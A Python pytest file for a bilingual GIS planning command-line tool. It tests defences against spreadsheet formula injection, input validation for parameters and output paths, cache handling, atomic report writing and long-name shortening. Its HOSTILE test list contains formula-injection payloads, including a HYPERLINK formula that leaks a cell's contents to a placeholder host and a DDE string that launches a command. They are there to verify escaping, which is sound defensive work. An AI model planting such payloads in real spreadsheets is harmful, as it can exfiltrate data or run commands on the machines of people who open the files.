"""Hostile and careless use of the product's outputs and options (issue 12, part A).

Classes: spreadsheet injection (no formula from a planner's text in any XLSX/CSV), parameters
(NaN, negative, zero, infinite, absurd), output paths (directories, missing folders, wrong
extensions, unwritable places), cache folders, long names and interrupted report runs. Each
case is an input and its expected outcome: exit code + message fragment, or the right answer.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest

from cli.main import main
from geo.spreadsheet import FORMULA_START, csv_bytes, escape_text, harden_workbook, safe_frame
from tests.conftest import ROOT

# ------------------------------------------------------------------------------ injection

HOSTILE = [
    '=HYPERLINK("http://x/?x="&A1,"click")',
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def _centers_csv(path: Path, names: list[str]) -> Path:
    g = gpd.read_file(ROOT / "data" / "demo" / "service_centers.geojson").head(len(names))
    rows = [{"编号": f"X{i}", "名称": n, "所属社区": n, "地址": n, "经度": p.x, "纬度": p.y}
            for i, (n, p) in enumerate(zip(names, g.geometry))]
    pd.DataFrame(rows).to_csv(path, index=False, encoding="utf-8-sig")
    return path


def _sheet_xml(xlsx: Path) -> dict[str, str]:
    with zipfile.ZipFile(xlsx) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/sheet")}


def _all_text(xlsx: Path) -> str:
    with zipfile.ZipFile(xlsx) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("inj")
    centers = _centers_csv(d / "centers.csv", HOSTILE)
    assert main(["report", "--centers", str(centers), "--format", "xlsx,gpkg", "--lang", "en",
                 "--out", str(d / "rep")]) == 0
    (xlsx,) = (d / "rep").glob("*.xlsx")
    return xlsx


def test_no_formula_element_anywhere_in_the_report_workbook(hostile_report):
    sheets = _sheet_xml(hostile_report)
    assert sheets
    for name, xml in sheets.items():
        assert "<f>" not in xml and "<f " not in xml, name


@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_name_is_stored_as_escaped_text(hostile_report, text):
    from openpyxl import load_workbook

    wb = load_workbook(hostile_report)
    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    read = text.strip()  # the reader trims surrounding whitespace (tab, CR) from names
    assert escape_text(read) in values           # kept, with the leading quote
    assert read not in values                    # never as the raw formula text
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == escape_text(read)]
    assert cells and all(c.data_type == "s" for c in cells)


def test_numbers_stay_numbers_in_the_report_workbook(hostile_report):
    from openpyxl import load_workbook

    wb = load_workbook(hostile_report)
    nums = [c for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row
            if isinstance(c.value, (int, float)) and not isinstance(c.value, bool)]
    assert len(nums) > 50 and all(c.data_type == "n" for c in nums)


def test_full_names_kept_in_the_report_geopackage(hostile_report):
    gpkg = next(hostile_report.parent.glob("*.gpkg"))
    names = set(gpd.read_file(gpkg, layer="centers")["name"])
    assert {t.strip() for t in HOSTILE} <= names  # the GIS layer keeps the text as read (not escaped)


@pytest.mark.parametrize("text", HOSTILE + ["普通名称", "a=b", "", "'already"])
def test_escape_rule(text):
    out = escape_text(text)
    if text[:1] in FORMULA_START:
        assert out == "'" + text
    else:
        assert out == text
    assert escape_text(out) == out  # idempotent


def test_csv_writer_escapes_text_and_keeps_numbers(tmp_path):
    from geo.readers import write_layer

    g = gpd.GeoDataFrame({"name": HOSTILE, "n": range(len(HOSTILE)), "x": [-1.5] * len(HOSTILE)},
                         geometry=gpd.points_from_xy([120.16] * len(HOSTILE), [30.25] * len(HOSTILE)), crs=4326)
    p = write_layer(g, tmp_path / "out.csv")
    rows = list(csv.DictReader(io.StringIO(p.read_bytes().decode("utf-8-sig"), newline="")))
    assert [r["name"] for r in rows] == [escape_text(t) for t in HOSTILE]
    assert [r["x"] for r in rows] == ["-1.5"] * len(HOSTILE)  # numbers are not quoted
    assert all(r["WKT"].startswith("POINT") for r in rows)


def test_csv_bytes_and_frames_escape_column_names_too():
    df = pd.DataFrame({"=bad": ["=1+1"], "ok": [3]})
    out = safe_frame(df)
    assert list(out.columns) == ["'=bad", "ok"] and out.iloc[0, 0] == "'=1+1" and out.iloc[0, 1] == 3
    text = csv_bytes(df).decode("utf-8-sig")
    assert text.split("\r\n") == ["'=bad,ok", "'=1+1,3", ""]


def test_openpyxl_formula_cells_are_hardened():
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(HOSTILE + [1.5, 2])
    assert any(c.data_type == "f" for c in ws[1])  # what openpyxl would have written
    harden_workbook(wb)
    buf = io.BytesIO()
    wb.save(buf)
    xml = zipfile.ZipFile(buf).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert [c.data_type for c in ws[1]] == ["s"] * len(HOSTILE) + ["n", "n"]


def test_scenario_and_batch_workbooks_use_the_shared_guard(tmp_path):
    from geo.spreadsheet import write_frames_xlsx

    p = tmp_path / "t.xlsx"
    write_frames_xlsx(p, {"a": pd.DataFrame({"name": HOSTILE, "v": range(len(HOSTILE))})})
    xml = "".join(_sheet_xml(p).values())
    assert "<f>" not in xml and "<f " not in xml
    from analysis.batch import xlsx_text_safe

    assert [xlsx_text_safe(t) for t in HOSTILE] == [escape_text(t) for t in HOSTILE]


def test_party_lists_workbook_goes_through_the_guard(tmp_path):
    from analysis.report.document import Column, Table
    from analysis.report.party import write_party_xlsx

    t = Table(key="x", title="x", sheet="x", columns=[Column("name", "name", "text"), Column("n", "n", "int")],
              df=pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE))}))
    p = write_party_xlsx([t], tmp_path / "lists.xlsx", "en")
    xml = "".join(_sheet_xml(p).values())
    assert "<f>" not in xml and "<f " not in xml


def test_templates_are_written_without_formulas(tmp_path):
    from geo.templates import write_templates

    for p in write_templates(tmp_path):
        if p.suffix == ".xlsx":
            assert not re.search(r"<f[ >]", "".join(_sheet_xml(p).values()))
        if p.suffix == ".csv":
            for row in csv.reader(io.StringIO(p.read_bytes().decode("utf-8-sig"))):
                assert not any(v[:1] in FORMULA_START for v in row)


# ------------------------------------------------------------------------------ parameters
# (argv, message fragment); every case: exit code 2, one bilingual line, no traceback, nothing run.

PARAMETER_CASES = {
    "radius_negative": (["coverage", "--for", "workers", "--radius", "-5"], "--radius"),
    "radius_nan": (["coverage", "--radius", "nan"], "--radius"),
    "radius_zero": (["site", "--kind", "red-station", "--radius", "0"], "--radius"),
    "radius_absurd": (["site", "--radius", "1e9"], "20,000"),
    "max_mb_nan": (["check", "x.csv", "--type", "centers", "--max-mb", "nan"], "--max-mb"),
    "max_mb_negative": (["check", "x.csv", "--type", "centers", "--max-mb", "-1"], "--max-mb"),
    "max_mb_zero": (["check", "x.csv", "--type", "centers", "--max-mb", "0"], "--max-mb"),
    "max_mb_text": (["check", "x.csv", "--type", "centers", "--max-mb", "200MB"], "--max-mb"),
    "max_mb_inf": (["check", "x.csv", "--type", "centers", "--max-mb", "inf"], "--max-mb"),
    "max_access_nan": (["coverage", "--max-access", "nan"], "--max-access"),
    "max_access_negative": (["report", "--max-access", "-300"], "--max-access"),
    "max_access_zero": (["coverage", "--max-access", "0"], "--max-access"),
    "min_distance_nan": (["site", "--min-distance", "nan"], "--min-distance"),
    "min_distance_negative": (["site", "--min-distance", "-1"], "--min-distance"),
    "minutes_nan": (["coverage", "--minutes", "nan"], "--minutes"),
    "minutes_negative": (["report", "--minutes", "-8"], "--minutes"),
    "minutes_zero": (["site", "--minutes", "0"], "--minutes"),
    "minutes_inf": (["coverage", "--minutes", "inf"], "--minutes"),
    "minutes_absurd": (["coverage", "--minutes", "100000"], "1–120"),
    "minutes_text": (["coverage", "--minutes", "eight"], "--minutes"),
    "speed_nan": (["coverage", "--speed", "nan"], "--speed"),
    "speed_negative": (["coverage", "--speed", "-4.5"], "--speed"),
    "speed_zero": (["report", "--speed", "0"], "--speed"),
    "speed_inf": (["coverage", "--speed", "inf"], "--speed"),
    "speed_absurd": (["coverage", "--speed", "300"], "0.5–10"),
    "k_zero": (["site", "--k", "0"], "--k"),
    "k_negative": (["site", "--k", "-3"], "--k"),
    "k_fraction": (["site", "--k", "2.5"], "--k"),
    "k_nan": (["site", "--k", "nan"], "--k"),
    "k_absurd": (["site", "--k", "1000000"], "1,000"),
    "sites_negative": (["report", "--sites", "-1"], "--sites"),
    "spacing_zero": (["site", "--generate", "--spacing", "0"], "--spacing"),
    "spacing_nan": (["site", "--spacing", "nan"], "--spacing"),
    "time_limit_zero": (["site", "--time-limit", "0"], "--time-limit"),
    "time_limit_inf": (["site", "--time-limit", "inf"], "--time-limit"),
    "budget_negative": (["site", "--budget", "-100"], "--budget"),
    "budget_nan": (["site", "--budget", "nan"], "--budget"),
    "min_area_negative": (["site", "--min-area", "-5"], "--min-area"),
    "lists_distance_nan": (["lists", "--distance", "nan"], "--distance"),
    "adoption_distance_zero": (["adoption", "--distance", "0"], "--distance"),
    "adoption_river_max_negative": (["adoption", "--river-max", "-1"], "--river-max"),
    "batch_workers_zero": (["batch", "m.csv", "--workers", "0"], "--workers"),
    "batch_threads_negative": (["batch", "m.csv", "--threads", "-2"], "--threads"),
}


def _refused(argv: list[str], capsys) -> str:
    assert main(argv) == 2
    out = capsys.readouterr()
    assert "Traceback" not in out.err and out.out == ""
    return out.err


@pytest.mark.parametrize("case", sorted(PARAMETER_CASES))
def test_bad_parameter_is_exit_2_with_one_bilingual_message(case, capsys):
    argv, fragment = PARAMETER_CASES[case]
    err = _refused(argv, capsys)
    assert fragment in err
    assert "无效" in err and "not valid" in err          # Chinese and English
    assert err.count("\n") == 1 and err.startswith("错误 Error:")  # one line


@pytest.mark.parametrize("argv, value", [
    (["coverage", "--minutes", "10", "--speed", "3"], {"minutes": 10.0, "speed": 3.0}),
    (["site", "--k", "3", "--min-distance", "0", "--radius", "800"], {"k": 3, "min_distance": 0.0, "radius": 800.0}),
    (["check", "x.csv", "--type", "centers", "--max-mb", "1,000"], {"max_mb": 1000.0}),
])
def test_sensible_parameters_are_accepted(argv, value):
    from cli.main import build_parser

    args = build_parser().parse_args(argv)
    assert {k: getattr(args, k) for k in value} == value


def test_max_mb_limit_is_shown_as_given(tmp_path, capsys):
    p = tmp_path / "big.csv"
    p.write_bytes(b"a,b\n" + b"1,2\n" * 400_000)  # 1.6 MB
    assert main(["check", str(p), "--type", "centers", "--max-mb", "1"]) == 2
    err = capsys.readouterr().err
    assert "1 MB" in err and "1.0 MB" not in err and "1.05" not in err
    from geo.readers import DEFAULT_MAX_BYTES

    assert DEFAULT_MAX_BYTES / 1e6 == 200  # "200 MB" means 200 MB, not 209.7


# ------------------------------------------------------------------------------ output paths


def _path_cases(tmp: Path) -> dict[str, tuple[list[str], str]]:
    (tmp / "a_folder").mkdir(exist_ok=True)
    (tmp / "a_file.txt").write_text("x")
    (tmp / "a_file.gpkg").write_text("x")
    (tmp / "readonly.gpkg").write_text("x")
    (tmp / "readonly.gpkg").chmod(0o444)
    return {
        "coverage_out_is_a_folder": (["coverage", "--out", str(tmp / "a_folder")], "folder"),
        "coverage_out_trailing_slash": (["coverage", "--out", str(tmp / "new_folder") + "/"], "folder"),
        "coverage_out_wrong_extension": (["coverage", "--out", str(tmp / "x.csv")], ".gpkg"),
        "coverage_out_no_extension": (["coverage", "--out", str(tmp / "result")], ".gpkg"),
        "coverage_out_two_missing_folders": (["coverage", "--out", str(tmp / "no1" / "no2" / "c.gpkg")], "does not exist"),
        "coverage_out_under_a_file": (["coverage", "--out", str(tmp / "a_file.txt" / "c.gpkg")], "file"),
        "coverage_out_unwritable_place": (["coverage", "--out", "/proc/servicecircle/c.gpkg"], "writable"),
        "coverage_out_empty": (["coverage", "--out", ""], "empty"),
        "site_out_is_a_folder": (["site", "--out", str(tmp / "a_folder")], "folder"),
        "site_out_wrong_extension": (["site", "--out", str(tmp / "s.xlsx")], ".gpkg"),
        "report_out_is_a_file": (["report", "--out", str(tmp / "a_file.txt")], "existing file"),
        "report_out_is_a_gpkg_file": (["report", "--out", str(tmp / "a_file.gpkg")], "existing file"),
        "report_out_two_missing_folders": (["report", "--out", str(tmp / "no1" / "no2")], "does not exist"),
        "report_out_unwritable_place": (["report", "--out", "/proc/servicecircle_report"], "writable"),
        "report_out_under_a_file": (["report", "--out", str(tmp / "a_file.txt" / "rep")], "file"),
        "lists_out_is_a_file": (["lists", "--out", str(tmp / "a_file.txt")], "existing file"),
        "adoption_out_is_a_file": (["adoption", "--out", str(tmp / "a_file.txt")], "existing file"),
        "demo_area_out_is_a_file": (["demo-area", "--out", str(tmp / "a_file.txt")], "existing file"),
        "guide_map_out_missing_parents": (["guide-map", "--out", str(tmp / "x" / "y" / "z")], "does not exist"),
        "batch_out_is_a_file": (["batch", "m.csv", "--out", str(tmp / "a_file.txt")], "existing file"),
        "scenario_xlsx_wrong_extension": (["scenario", "compare", "a", "b", "--xlsx", str(tmp / "c.csv")], ".xlsx"),
        "scenario_xlsx_is_a_folder": (["scenario", "compare", "a", "b", "--xlsx", str(tmp / "a_folder")], "folder"),
    }


_PATH_CASE_NAMES = sorted(_path_cases(Path(__import__("tempfile").mkdtemp(prefix="sc_path_cases_"))))


@pytest.mark.parametrize("case", _PATH_CASE_NAMES)
def test_bad_output_path_is_exit_2_with_one_bilingual_message(case, tmp_path, capsys):
    from cli.main import COMMANDS

    argv, fragment = _path_cases(tmp_path)[case]
    assert argv[0] in COMMANDS, f"{argv[0]} is not a servicecircle command"
    err = _refused(argv, capsys)
    assert fragment in err
    assert err.startswith("错误 Error:") and err.count("\n") == 1
    assert re.search(r"[\u4e00-\u9fff]", err) and " / " in err  # Chinese, then English
    assert not (tmp_path / "no1").exists()  # nothing created on refusal


def test_readonly_output_file_is_refused(tmp_path, capsys):
    import os

    if os.geteuid() == 0:
        pytest.skip("root may overwrite read-only files")
    _path_cases(tmp_path)
    err = _refused(["coverage", "--out", str(tmp_path / "readonly.gpkg")], capsys)
    assert "read-only" in err


def test_missing_last_folder_is_created_rule(tmp_path):
    """Rule: the folder that holds the output is created when its parent exists (one level)."""
    from cli.main import build_parser

    args = build_parser().parse_args(["coverage", "--out", str(tmp_path / "new" / "c.gpkg")])
    assert args.out == str(tmp_path / "new" / "c.gpkg")
    args = build_parser().parse_args(["report", "--out", str(tmp_path / "new_report")])
    assert args.out == str(tmp_path / "new_report")
    assert not (tmp_path / "new").exists()  # validation creates nothing; the writer does


# ------------------------------------------------------------------------------ cache folder


def test_cache_folder_under_a_file_is_reported_and_not_written(tmp_path, capsys):
    import geo.disk_cache as dc
    import numpy as np

    bad = tmp_path / "cachefile"
    bad.write_text("not a folder")
    assert dc.cache_problem(bad / "sub") is not None and dc.cache_problem(bad) is not None
    dc._warned.clear()
    assert dc.write_entry("networks", "k", {"a": np.arange(2)}, {}, bad / "sub") is False
    assert "不使用缓存" in capsys.readouterr().err and bad.read_text() == "not a folder"


@pytest.mark.parametrize("kind", ["file"])
def test_unusable_cache_folder_warns_and_gives_the_right_answer(kind, tmp_path):
    import os
    import subprocess
    import sys

    bad = tmp_path / "cachefile"
    bad.write_text("not a folder")
    env = {**os.environ, "SERVICECIRCLE_CACHE": str(bad if kind == "file" else bad / "sub"), "PYTHONPATH": str(ROOT)}
    out = tmp_path / "c.gpkg"
    run = subprocess.run([sys.executable, "-m", "cli.main", "coverage", "--out", str(out), "--lang", "en"],
                         capture_output=True, text=True, env=env, cwd=tmp_path, timeout=600)
    assert run.returncode == 0, run.stderr
    assert "without the cache" in run.stderr and "不使用缓存" in run.stderr
    assert run.stderr.count("without the cache") == 1  # said once
    assert "Traceback" not in run.stderr
    assert re.search(r"Within 8 min\s+[\d,]+ \(\d", run.stdout) and out.exists()
    assert bad.read_text() == "not a folder"


# ------------------------------------------------------------------------------ interrupted runs


def _report_cmd(out: Path, *extra: str) -> list[str]:
    import sys

    return [sys.executable, "-m", "cli.main", "report", "--format", "html,xlsx,gpkg", "--lang", "en",
            "--out", str(out), *extra]


def _env(**extra: str) -> dict[str, str]:
    import os

    return {**os.environ, "PYTHONPATH": str(ROOT), **extra}


def _digests(folder: Path) -> dict[str, str]:
    import hashlib

    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


def _temp_leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if "_tmp_" in p.name or p.name.endswith("-journal"))


def test_killed_report_run_leaves_the_previous_complete_set_and_its_temps_are_cleaned(tmp_path):
    import signal
    import subprocess
    import time

    base = tmp_path / "work"
    base.mkdir()
    out = base / "report"
    first = subprocess.run(_report_cmd(out), env=_env(), cwd=tmp_path, capture_output=True, text=True, timeout=900)
    assert first.returncode == 0, first.stderr
    before = _digests(out)
    assert sorted(before) == ["servicecircle_report_en.gpkg", "servicecircle_report_en.html",
                              "servicecircle_report_en.xlsx"]
    # an old-style orphan from an earlier crash of the per-file writer, and its journal
    orphan = out / "servicecircle_report_en_tmp_99999999_0123456789ab.gpkg"
    orphan.write_bytes(b"half")
    (out / (orphan.name + "-journal")).write_bytes(b"j")
    # second run with other numbers, killed (SIGKILL) after its first file is written
    proc = subprocess.Popen(_report_cmd(out, "--minutes", "10"), env=_env(SERVICECIRCLE_TEST_SLOW_REPORT="30"),
                            cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 600
    building = []
    while time.time() < deadline and proc.poll() is None:
        building = [p for d in base.glob(".report_tmp_*") for p in d.iterdir() if p.suffix in (".html", ".xlsx")]
        if building:
            break
        time.sleep(0.1)
    assert building, "the second run never started writing"
    proc.send_signal(signal.SIGKILL)
    proc.wait(timeout=60)
    assert proc.returncode == -signal.SIGKILL
    # the folder still holds exactly the first complete set (the planted orphans aside)
    after_kill = {k: v for k, v in _digests(out).items() if "_tmp_" not in k}
    assert after_kill == before
    assert list(base.glob(".report_tmp_*"))  # the killed run's private folder is still there ...
    # ... until the next run, which completes, swaps in a consistent new set and cleans up
    third = subprocess.run(_report_cmd(out, "--minutes", "10"), env=_env(), cwd=tmp_path, capture_output=True,
                           text=True, timeout=900)
    assert third.returncode == 0, third.stderr
    assert not list(base.glob(".report_tmp_*")) and _temp_leftovers(out) == []
    now = _digests(out)
    assert sorted(now) == sorted(before) and all(now[k] != before[k] for k in now)  # all three replaced
    meta = gpd.read_file(out / "servicecircle_report_en.gpkg", layer="metadata").set_index("key")["value"]
    assert meta["threshold_min"] == "10"
    html = (out / "servicecircle_report_en.html").read_text(encoding="utf-8")
    assert "10 min" in html or "10分钟" in html


def test_report_set_keeps_other_files_in_the_folder(tmp_path):
    from analysis.report import build_report
    from geo.safe_io import atomic_folder

    out = tmp_path / "rep"
    out.mkdir()
    (out / "notes.txt").write_text("planner's notes")
    with atomic_folder(out) as work:
        (work / "a.txt").write_text("new")
    assert (out / "notes.txt").read_text() == "planner's notes" and (out / "a.txt").read_text() == "new"
    assert [p.name for p in tmp_path.iterdir()] == ["rep"]
    assert callable(build_report)


def test_failed_build_leaves_the_previous_folder_untouched(tmp_path):
    from geo.safe_io import atomic_folder

    out = tmp_path / "rep"
    out.mkdir()
    (out / "old.pdf").write_text("old")
    with pytest.raises(RuntimeError):
        with atomic_folder(out) as work:
            (work / "old.pdf").write_text("half new")
            raise RuntimeError("interrupted")
    assert (out / "old.pdf").read_text() == "old" and [p.name for p in tmp_path.iterdir()] == ["rep"]


def test_two_concurrent_runs_never_collide(tmp_path):
    import subprocess

    out = tmp_path / "report"
    procs = [subprocess.Popen(_report_cmd(out, "--format", "xlsx,gpkg"), env=_env(), cwd=tmp_path,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) for _ in range(2)]
    for p in procs:
        _, err = p.communicate(timeout=900)
        assert p.returncode == 0, err
    assert sorted(p.name for p in out.iterdir()) == ["servicecircle_report_en.gpkg", "servicecircle_report_en.xlsx"]
    assert not [p for p in tmp_path.iterdir() if "_tmp_" in p.name]
    gpd.read_file(out / "servicecircle_report_en.gpkg", layer="centers")  # whole, readable


def test_stale_temp_names_of_dead_processes_are_removed_live_ones_kept(tmp_path):
    import os

    from geo.safe_io import atomic_write_bytes

    dead = tmp_path / "coverage_tmp_99999999_0123456789ab.gpkg"
    live = tmp_path / f"coverage_tmp_{os.getpid()}_0123456789ab.gpkg"
    user = tmp_path / "my_tmp_notes.gpkg"
    for p in (dead, live, user, tmp_path / (dead.name + "-journal")):
        p.write_bytes(b"x")
    atomic_write_bytes(tmp_path / "coverage.gpkg", b"data")
    names = sorted(p.name for p in tmp_path.iterdir())
    assert names == sorted(["coverage.gpkg", live.name, user.name])


# ------------------------------------------------------------------------------ bounded text

LONG_NAME = "党" * 50_000 + "群" * 50_000  # 100,000 Chinese characters


@pytest.fixture(scope="module")
def long_name_report(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("long")
    centers = _centers_csv(d / "centers.csv", [LONG_NAME, "普通中心", "另一个中心"])
    assert main(["report", "--centers", str(centers), "--lang", "zh", "--out", str(d / "rep")]) == 0
    return d / "rep"


def test_long_name_report_set_is_complete_with_the_name_shortened_in_the_pdf(long_name_report):
    import pdfplumber

    from analysis.textfit import ELLIPSIS

    names = sorted(p.suffix for p in long_name_report.iterdir())
    assert names == [".gpkg", ".html", ".pdf", ".xlsx"]
    with pdfplumber.open(next(long_name_report.glob("*.pdf"))) as pdf:
        text = "".join(page.extract_text() or "" for page in pdf.pages)
    flat = re.sub(r"\s+", "", text)
    assert "党" * 20 in flat and ELLIPSIS in flat
    assert "党" * 61 not in flat  # shortened (to at most 60 characters) wherever it is typeset


def test_long_name_kept_in_full_in_xlsx_and_gpkg(long_name_report):
    from openpyxl import load_workbook

    wb = load_workbook(next(long_name_report.glob("*.xlsx")), read_only=True)
    values = {c for ws in wb.worksheets for row in ws.iter_rows(values_only=True) for c in row if isinstance(c, str)}
    assert LONG_NAME[:32767] in values  # as much as an Excel cell holds (32,767 characters), not shortened
    names = set(gpd.read_file(next(long_name_report.glob("*.gpkg")), layer="centers")["name"])
    assert LONG_NAME in names


def test_long_name_shortened_in_the_html_map_popups(long_name_report):
    html = next(long_name_report.glob("*.html")).read_text(encoding="utf-8")
    assert "党" * 30 + "…" in html or "党" * 38 + "…" in html
    assert "党" * 200 not in html


def test_app_map_popup_and_label_are_shortened():
    from analysis.textfit import MAP_CHARS, shorten
    from ui.maps import site_popup_html

    row = pd.Series({"name": LONG_NAME, "center_id": "C1"})
    html = site_popup_html(row, "center", "zh")
    assert shorten(LONG_NAME) in html and "党" * (MAP_CHARS + 1) not in html
    assert len(shorten(LONG_NAME)) == MAP_CHARS and shorten("短名") == "短名"


@pytest.mark.parametrize("text, n, expected", [
    ("湖滨街道党群服务中心", 40, "湖滨街道党群服务中心"),
    ("a" * 41, 40, "a" * 39 + "…"),
    (None, 40, ""),
    (12345, 3, "12…"),
])
def test_shorten_rule(text, n, expected):
    from analysis.textfit import shorten

    assert shorten(text, n) == expected
